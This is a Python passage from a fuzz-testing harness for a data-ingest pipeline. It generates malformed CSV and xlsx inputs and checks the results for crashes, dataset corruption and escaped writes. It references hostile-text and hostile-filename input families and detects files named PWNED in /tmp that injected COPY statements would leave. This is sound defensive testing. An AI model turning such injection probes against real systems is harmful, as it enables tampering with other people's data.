def fam_empty_like(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    kind = _kind(rng, kind, ["empty", "whitespace", "bom-only", "newlines", "header-only",
                             "header-blank-lines", "one-row", "one-row-no-newline",
                             "all-dropped", "all-cancelled", "all-duplicates", "utf16-bom-only",
                             "gz-header-only"])
    expect = "any"
    header = ",".join(HEADER)
    one = ",".join(valid_rows(rng, n_orders=1)[0])
    if kind == "empty":
        data = b""
    elif kind == "whitespace":
        data = rng.choice([b" ", b"\t\t", b"  \n \r\n", b"\x0b\x0c"])
    elif kind == "bom-only":
        data = codecs.BOM_UTF8
    elif kind == "newlines":
        data = b"\n" * rng.randint(1, 1000)
    elif kind == "header-only":
        data = (header + rng.choice(["", "\n", "\r\n"])).encode()
    elif kind == "header-blank-lines":
        data = (header + "\n\n\n,,,,,,\n\n").encode()
    elif kind == "one-row":
        data, expect = (header + "\n" + one + "\n").encode(), "load"
    elif kind == "one-row-no-newline":
        data, expect = (header + "\n" + one).encode(), "load"
    elif kind == "all-dropped":
        rows = valid_rows(rng)
        for r in rows:
            r[COL["quantity"]] = str(-rng.randint(1, 5))
        data = render(rows).encode()
    elif kind == "all-cancelled":
        rows = valid_rows(rng)
        for r in rows:
            r[COL["order_id"]] = "C" + r[COL["order_id"]]
        data = render(rows).encode()
    elif kind == "all-duplicates":
        row = valid_rows(rng, n_orders=1)[0]
        data = render([row] * rng.randint(2, 50)).encode()
        expect = "load"
    elif kind == "utf16-bom-only":
        data = codecs.BOM_UTF16_LE
    else:
        data = _gzip((header + "\n").encode())
    return _maybe_keep(rng, Case("empty_like", seed, _name(rng, kind), data, kind,
                                 expect=expect), share=0.4)


def _xlsx_bytes(rows: list[list], *, sheet_empty: bool = False,
                second_sheet: bool = False) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    if not sheet_empty:
        for r in rows:
            ws.append(r)
    if second_sheet:
        other = wb.create_sheet("data")
        for r in rows:
            other.append(r)
    fixed = _dt.datetime(2024, 1, 1)
    wb.properties.created = fixed
    wb.properties.modified = fixed
    buf = io.BytesIO()
    wb.save(buf)
    return _deterministic_zip(buf.getvalue())


def _deterministic_zip(data: bytes) -> bytes:
    """The same zip with fixed member times and core.xml dates (so a seed gives the same bytes)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                body = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", body)
            zi = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(zi, body)
    return out.getvalue()


def fam_xlsx(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    kind = _kind(rng, kind, ["valid", "valid-typed", "hostile-cells", "empty-sheet",
                             "data-on-sheet-2", "truncated-zip", "corrupted-zip",
                             "zip-not-workbook", "header-only", "formulas", "title-row",
                             "wide-sheet", "odd-values", "multiline-cells", "named-csv"])
    rows = valid_rows(rng)
    table: list[list] = [list(HEADER)] + [list(r) for r in rows]
    expect = "any"
    if kind == "valid":
        data, expect = _xlsx_bytes(table), "load"
    elif kind == "valid-typed":  # numbers and datetimes as Excel types
        typed = [list(HEADER)] + [[int(r[0]), r[1], r[2], int(r[3]), float(r[4]), r[5],
                                   _dt.datetime.strptime(r[6], "%Y-%m-%d %H:%M:%S")] for r in rows]
        data, expect = _xlsx_bytes(typed), "load"
    elif kind == "hostile-cells":
        for r in table[1:]:
            if rng.random() < 0.5:
                r[COL["item_name"]] = rng.choice([t for t in HOSTILE_TEXT
                                                  if "\x1b" not in t and "\r" not in t])
        data, expect = _xlsx_bytes(table), "load"
    elif kind == "empty-sheet":
        data = _xlsx_bytes(table, sheet_empty=True)
    elif kind == "data-on-sheet-2":
        data = _xlsx_bytes(table, sheet_empty=True, second_sheet=True)
    elif kind == "truncated-zip":
        full = _xlsx_bytes(table)
        data = full[: rng.randint(4, len(full) - 1)]
    elif kind == "corrupted-zip":
        data = _bytes_mutate(rng, _xlsx_bytes(table), rng.randint(1, 20))
        data = b"PK\x03\x04" + data[4:]
    elif kind == "zip-not-workbook":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(zipfile.ZipInfo("orders.csv", (1980, 1, 1, 0, 0, 0)), valid_text(rng))
        data = buf.getvalue()
    elif kind == "formulas":  # formulas without cached values (openpyxl computes nothing)
        for k, r in enumerate(table[1:], start=2):
            if rng.random() < 0.3:
                r[COL["quantity"]] = f"=1+{k}"
            if rng.random() < 0.2:
                r[COL["item_name"]] = f'=CONCATENATE("a","{k}")'
        data = _xlsx_bytes(table)
    elif kind == "title-row":
        data = _xlsx_bytes([["Orders export", None, None], []] + table)
    elif kind == "wide-sheet":
        extra = rng.randint(600, 3000)
        data = _xlsx_bytes([table[0] + [f"x{k}" for k in range(extra)]] +
                           [r + [k % 7 for k in range(extra)] for r in table[1:8]])
        expect = "load"
    elif kind == "odd-values":
        odd = [_dt.datetime(1, 1, 1), _dt.datetime(9999, 12, 31, 23, 59, 59), _dt.date(1900, 1, 1),
               _dt.time(12, 30), True, False, 1e308, -0.0, float("nan"), float("inf"), 10**30,
               "#DIV/0!", None, "", " "]
        for r in table[1:]:
            if rng.random() < 0.4:
                r[rng.choice([COL["quantity"], COL["unit_price"], COL["date"],
                              COL["customer_id"]])] = rng.choice(odd)
        data = _xlsx_bytes(table)
        expect = "load"
    elif kind == "multiline-cells":
        for r in table[1:]:
            if rng.random() < 0.3:
                r[COL["item_name"]] = rng.choice(["two\nlines", "cr\r\nlf", 'quote " inside',
                                                  "comma, inside", "x" * 32767])
        data, expect = _xlsx_bytes(table), "load"
    elif kind == "named-csv":  # a workbook saved under a .csv name: load it or refuse clearly
        data = _xlsx_bytes(table)
    else:
        data = _xlsx_bytes([list(HEADER)])
    ext = ".csv" if kind == "named-csv" else ".xlsx"
    return _maybe_keep(rng, Case("xlsx", seed, _name(rng, "book", ext), data, kind,
                                 expect=expect))


FAMILIES: dict[str, Callable[[random.Random, int], Case]] = {
    "valid": fam_valid,
    "random_bytes": fam_random_bytes,
    "gzip": fam_gzip,
    "mixed_delimiters": fam_mixed_delimiters,
    "nul_bytes": fam_nul_bytes,
    "huge_fields": fam_huge_fields,
    "unbalanced_quotes": fam_unbalanced_quotes,
    "quoted_newlines": fam_quoted_newlines,
    "wide": fam_wide,
    "encodings": fam_encodings,
    "numbers": fam_numbers,
    "dates": fam_dates,
    "hostile_filenames": fam_hostile_filenames,
    "hostile_content": fam_hostile_content,
    "html": fam_html,
    "excel_sep": fam_excel_sep,
    "empty_like": fam_empty_like,
    "xlsx": fam_xlsx,
}


def make_case(family: str, seed: int, kind: str | None = None) -> Case:
    """The case ``seed`` of ``family`` (the same bytes on every run and machine); ``kind``
    forces the family's sub-variant (see ``kinds``)."""
    case = FAMILIES[family](random.Random(f"{family}:{seed}"), seed, kind)
    case.kind = kind
    return case


def kinds(family: str) -> list[str]:
    """The kinds (sub-variants) of ``family``, found by asking its generator for a bogus one."""
    if family not in _KIND_LISTS:
        try:
            FAMILIES[family](random.Random(0), 0, "\0")
        except ValueError as exc:
            _KIND_LISTS[family] = str(exc).split("; kinds: ", 1)[1].split(", ")
    return _KIND_LISTS[family]


def case_seeds(seed: int, n: int) -> list[tuple[str, int]]:
    """``n`` (family, case seed) pairs, round-robin over the families."""
    fams = list(FAMILIES)
    return [(fams[i % len(fams)], seed * 1_000_000 + i) for i in range(n)]


def generate(seed: int, n: int) -> list[Case]:
    return [make_case(f, s) for f, s in case_seeds(seed, n)]


# ---------------------------------------------------------------------------- harness
@dataclass
class Problem:
    """One broken promise: ``kind`` (see ``PROBLEM_KINDS``), a one-line ``detail``, and for
    exceptions their type and the file:line of the raising frame (innermost; ``core_frame``:
    innermost inside ``core/``)."""

    kind: str
    detail: str
    exc_type: str = ""
    frame: str = ""
    core_frame: str = ""

    def __str__(self) -> str:
        return f"{self.kind}: {self.detail}"


@dataclass
class Outcome:
    family: str
    seed: int
    name: str
    note: str
    expect: str
    status: str = ""            # loaded | refused | traceback
    dataset: str | None = None
    rows_kept: int | None = None
    exc_type: str = ""
    message: str = ""
    frame: str = ""             # file:line where the exception was raised (innermost frame)
    core_frame: str = ""        # innermost frame inside the project
    stage: str = ""             # ingest | mine | bundles (where the exception came from)
    tb: str = ""
    mined: str = ""             # ok | refused | - ; same for bundled
    bundled: str = ""
    problems: list[Problem] = field(default_factory=list)
    seconds: float = 0.0
    kind: str | None = None     # the forced kind, if any

    def label(self) -> str:
        return f"{self.family}:{self.seed}" + (f":{self.kind}" if self.kind else "")

    def reproduce(self) -> str:
        return (f"python bench/fuzz_ingest.py --family {self.family} --case-seed {self.seed}"
                + (f" --kind '{self.kind}'" if self.kind else ""))

    @property
    def ok(self) -> bool:
        return not self.problems

    def describe(self) -> str:
        head = f"{self.label()} [{self.note}] file={self.name[:60]!r}"
        lines = [head] + [f"  {p}" for p in self.problems] + [f"  reproduce: {self.reproduce()}"]
        if self.tb and any(p.kind.endswith("traceback") for p in self.problems):
            lines.append("  " + self.tb.strip().replace("\n", "\n  "))
        return "\n".join(lines)


PROBLEM_KINDS = ["traceback", "empty-message", "mine-traceback", "bundles-traceback",
                 "changed-earlier-dataset", "leftover", "escaped-write", "valid-refused",
                 "harness"]


def _rel(filename: str) -> str:
    try:
        return str(Path(filename).resolve().relative_to(ROOT))
    except ValueError:
        return filename


def _frames(exc: BaseException) -> tuple[str, str]:
    tb = traceback.extract_tb(exc.__traceback__)
    if not tb:
        return "", ""
    last = tb[-1]
    inner = f"{_rel(last.filename)}:{last.lineno}"
    core = next((f"{_rel(f.filename)}:{f.lineno}" for f in reversed(tb)
                 if _rel(f.filename).startswith("core/")), inner)
    return inner, core


def _first_line(text: str) -> str:
    text = str(text).strip()
    return text.splitlines()[0][:300] if text else ""


class Harness:
    """Runs cases in one workspace under ``root`` that holds dataset ``keep`` (loaded first).

    ``root/ws`` is the workspace, ``root/cases/<n>`` each case's own folder, ``root/cwd`` the
    working directory during a case (it must stay empty); the listing of ``root`` itself is
    the sentinel for writes next to the workspace."""

    def __init__(self, root: Path, *, mine: bool = True, bundles: bool = True,
                 post_every: int = 1):
        from core.workspace import Workspace

        self.root = Path(root)
        self.mine, self.bundles, self.post_every = mine, bundles, post_every
        self.n_loaded = 0
        self.count = 0
        self.root.mkdir(parents=True, exist_ok=True)
        self.cases_dir = self.root / "cases"
        self.cwd = self.root / "cwd"
        self.cases_dir.mkdir(exist_ok=True)
        self.cwd.mkdir(exist_ok=True)
        self.ws = Workspace(self.root / "ws")
        self.keep_file = self.root / "keep-source" / "keep.csv"
        self.keep_file.parent.mkdir(exist_ok=True)
        self.keep_file.write_text(valid_text(random.Random("keep")), encoding="utf-8")
        self._load_keep()
        self.root_listing = sorted(os.listdir(self.root))
        self.tmp_pwned = set(self._pwned_outside())

    # -- state
    def _load_keep(self) -> None:
        if not hasattr(self, "_real_ingest"):  # the ingest of construction time, even if a
            from core.ingest.load import ingest     # test patches core.ingest.load.ingest later on

            self._real_ingest = ingest
        self._real_ingest(self.ws, self.keep_file, dataset=KEEP)

    def digest(self) -> dict[str, tuple]:
        """Per dataset: version, summary, lines (count, hash), items (count, hash), dropped
        examples, files of its upload folder."""
        out: dict[str, tuple] = {}
        with self.ws.connect(read_only=True) as con:
            meta = {r[0]: r[1:] for r in con.execute(
                "SELECT name, version, summary, source, catalog FROM datasets").fetchall()}
            lines = {r[0]: r[1:] for r in con.execute(
                'SELECT dataset, count(*), sum(hash(line_no, order_id, item_id, quantity, '
                'unit_price, customer_id, "timestamp")) FROM lines GROUP BY dataset').fetchall()}
            items = {r[0]: r[1:] for r in con.execute(
                "SELECT dataset, count(*), sum(hash(item_id, item_name, category, price, cost, "
                "n_orders, n_lines, quantity, first_seen, last_seen, in_catalog)) FROM items "
                "GROUP BY dataset").fetchall()}
            dropped = {r[0]: r[1:] for r in con.execute(
                "SELECT dataset, count(*), sum(hash(reason, line_no, detail)) FROM "
                "dropped_examples GROUP BY dataset").fetchall()}
        for name in set(meta) | set(lines) | set(items) | set(dropped):
            up = self.ws.uploads_dir / name
            files = tuple(sorted((p.name, hashlib.sha1(p.read_bytes()).hexdigest())
                                 for p in up.iterdir())) if up.is_dir() else ()
            out[name] = (meta.get(name), lines.get(name), items.get(name), dropped.get(name),
                         files)
        return out

    def _leftovers(self, allowed_uploads: set[str]) -> list[str]:
        bad = []
        up = self.ws.uploads_dir
        if up.is_dir():
            for p in up.iterdir():
                if p.name.startswith(".staging"):
                    bad.append(f"uploads/{p.name}")
                elif p.name == ".incoming":
                    bad += [f"uploads/.incoming/{q.name}" for q in p.iterdir()] if p.is_dir() \
                        else ["uploads/.incoming (a file)"]
                elif p.name not in allowed_uploads:
                    bad.append(f"uploads/{p.name} (no dataset of that name)")
        if self.ws.tmp_dir.is_dir():
            bad += [f"tmp/{p.name}" for p in self.ws.tmp_dir.iterdir()]
        incoming = self.ws.root / "incoming"  # uploads not yet loaded (the Upload page)
        if incoming.is_dir():
            bad += [f"incoming/{p.name}" for p in incoming.iterdir()]
        for p in self.ws.root.iterdir():
            if p.name not in ("bundlelab.duckdb", "bundlelab.duckdb.wal", "uploads", "tmp",
                              "models", "incoming"):
                bad.append(p.name)
        return bad

    def _pwned_outside(self) -> list[str]:
        pats = ["/tmp/PWNED*", "/tmp/t/PWNED*", "/tmp/*/PWNED*"]
        return sorted({p for pat in pats for p in glob.glob(pat)})

    def _escaped(self, case_dir: Path, input_name: str) -> list[str]:
        bad = []
        now = sorted(os.listdir(self.root))
        if now != self.root_listing:
            bad.append(f"next to the workspace: {sorted(set(now) ^ set(self.root_listing))}")
        if os.listdir(self.cwd):
            bad.append(f"in the working directory: {sorted(os.listdir(self.cwd))[:5]}")
        # the case's own folder may hold temp files (not ingest's business to avoid), but no
        # file an injected COPY made
        bad += [f"in the case folder: {p.name}" for p in case_dir.iterdir()
                if p.name != input_name and "pwned" in p.name.lower()]
        new = set(self._pwned_outside()) - self.tmp_pwned
        if new:
            bad.append(f"outside: {sorted(new)}")
            self.tmp_pwned |= new
        return bad

    # -- one case
    def run(self, case: Case) -> Outcome:
        from core.errors import BundleLabError
        from core.ingest.load import default_name, ingest

        self.count += 1
        out = Outcome(case.family, case.seed, case.name, case.note, case.expect, kind=case.kind)
        case_dir = self.cases_dir / f"{self.count:05d}"
        try:
            path = case.write(case_dir)
        except OSError as exc:  # a name this file system refuses: not ingest's problem
            out.status = "skipped"
            out.message = f"cannot write the file here: {exc}"
            return out
        dataset = case.dataset
        if dataset is None and default_name(case.name) == KEEP:
            dataset = "not-keep"  # a file named keep.csv would replace keep on purpose
        before = self.digest()
        t0 = time.perf_counter()
        old_cwd = os.getcwd()
        os.chdir(self.cwd)
        try:
            try:
                summary = ingest(self.ws, path, dataset=dataset)
            except BundleLabError as exc:
                out.status, out.stage = "refused", "ingest"
                self._record_exc(out, exc)
                if not str(exc).strip():
                    out.problems.append(Problem("empty-message", f"{out.exc_type} with no text",
                                                out.exc_type, out.frame, out.core_frame))
                if case.expect == "load":
                    out.problems.append(Problem("valid-refused", f"{out.exc_type}: {out.message}",
                                                out.exc_type, out.frame, out.core_frame))
            except Exception as exc:  # noqa: BLE001 - anything else is the bug we look for
                out.status, out.stage = "traceback", "ingest"
                self._record_exc(out, exc)
                out.problems.append(Problem("traceback", f"{out.exc_type}: "
                                            f"{out.message or '(no message)'}",
                                            out.exc_type, out.frame, out.core_frame))
            else:
                out.status, out.dataset = "loaded", summary.get("dataset")
                out.rows_kept = summary.get("rows_kept")
                self.n_loaded += 1
                if self.n_loaded % self.post_every == 0:
                    self._post(out)
        finally:
            os.chdir(old_cwd)
            out.seconds = round(time.perf_counter() - t0, 3)
        self._check_after(out, before)
        shutil.rmtree(case_dir, ignore_errors=True)
        return out

    def _record_exc(self, out: Outcome, exc: BaseException) -> None:
        out.exc_type = f"{type(exc).__module__}.{type(exc).__name__}".replace("builtins.", "")
        out.message = _first_line(str(exc))
        out.frame, out.core_frame = _frames(exc)
        out.tb = "".join(traceback.format_exception(type(exc), exc, exc.__traceback__))[-4000:]

    def _post(self, out: Outcome) -> None:
        """Mining and bundles on what loaded, with small budgets and no text model."""
        from core.bundles.params import BundleParams
        from core.bundles.service import build_for_dataset
        from core.errors import BundleLabError
        from core.rules.itemsets import MiningParams
        from core.rules.mining import mine
        from core.rules.association import RuleParams

        steps = []
        if self.mine:
            steps.append(("mine", lambda: mine(self.ws, out.dataset, mining=MiningParams(
                min_support=2, max_len=3, max_itemsets=20_000), rules=RuleParams())))
        if self.bundles:
            steps.append(("bundles", lambda: build_for_dataset(
                self.ws, out.dataset, BundleParams(top=5, min_orders=2, text=False))))
        for stage, fn in steps:
            attr = "mined" if stage == "mine" else "bundled"
            try:
                fn()
            except BundleLabError as exc:
                setattr(out, attr, "refused")
                if not str(exc).strip():
                    out.problems.append(Problem("empty-message", f"{stage}: {type(exc).__name__}",
                                                type(exc).__name__, *_frames(exc)))
            except Exception as exc:  # noqa: BLE001
                setattr(out, attr, "traceback")
                if not out.exc_type:
                    out.stage = stage
                    self._record_exc(out, exc)
                name = f"{type(exc).__module__}.{type(exc).__name__}".replace("builtins.", "")
                out.problems.append(Problem(f"{stage}-traceback",
                                            f"{name}: {_first_line(str(exc))}", name,
                                            *_frames(exc)))
            else:
                setattr(out, attr, "ok")

    def _check_after(self, out: Outcome, before: dict[str, tuple]) -> None:
        try:
            after = self.digest()
        except Exception as exc:  # noqa: BLE001 - the workspace no longer opens
            out.problems.append(Problem("harness", f"workspace unreadable after the case: "
                                        f"{type(exc).__name__}: {_first_line(str(exc))}"))
            self.reset()
            return
        target = out.dataset if out.status == "loaded" else None
        changed = [n for n in before if n != target and after.get(n) != before[n]]
        if changed:
            detail = "; ".join(f"{n}: {self._diff(before[n], after.get(n))}" for n in changed)
            out.problems.append(Problem("changed-earlier-dataset", detail))
        appeared = [n for n in after if n not in before and n != target]
        if appeared:
            out.problems.append(Problem("changed-earlier-dataset", f"new datasets {appeared}"))
        left = self._leftovers(set(after))
        if left:
            out.problems.append(Problem("leftover", ", ".join(left[:8])))
        esc = self._escaped(self.cases_dir / f"{self.count:05d}", out.name)
        if esc:
            out.problems.append(Problem("escaped-write", "; ".join(esc)))
        if changed or left or esc or target == KEEP:
            self.reset()  # start clean so one broken case does not colour the next ones

    @staticmethod
    def _diff(a, b) -> str:
        if b is None:
            return "gone"
        parts = ["datasets row", "lines", "items", "dropped examples", "upload files"]
        return ", ".join(p for p, x, y in zip(parts, a, b) if x != y) or "?"

    def reset(self) -> None:
        """A fresh workspace holding only ``keep`` (after damage, or to stay small)."""
        shutil.rmtree(self.ws.root, ignore_errors=True)
        for p in self.cwd.iterdir():
            shutil.rmtree(p, ignore_errors=True) if p.is_dir() else p.unlink()
        for name in set(os.listdir(self.root)) - set(self.root_listing):
            p = self.root / name
            shutil.rmtree(p, ignore_errors=True) if p.is_dir() else p.unlink()
        from core.rules.mining import clear_cache

        clear_cache()
        self._load_keep()
        self.root_listing = sorted(os.listdir(self.root))


def _norm_message(text: str, file_name: str) -> str:
    text = text.replace(file_name, "<file>") if file_name else text
    text = re.sub(r"[0-9a-f]{8,}|\d+", "N", text)
    return text[:90]


def group_failures(outcomes: list[Outcome]) -> dict[tuple[str, str, str, str, str],
                                                     list[Outcome]]:
    """Failures grouped by (family, problem kind, exception type, raising frame, message with
    the file name and numbers blanked); problems without an exception group by their detail."""
    groups: dict[tuple[str, str, str, str, str], list[Outcome]] = {}
    for o in outcomes:
        for p in o.problems:
            where = p.frame if p.frame == p.core_frame or not p.core_frame \
                else f"{p.frame} (core: {p.core_frame})"
            msg = p.detail.split(": ", 1)[1] if p.exc_type and ": " in p.detail else p.detail
            key = (o.family, p.kind, p.exc_type, where, _norm_message(msg, o.name))
            groups.setdefault(key, []).append(o)
    return groups
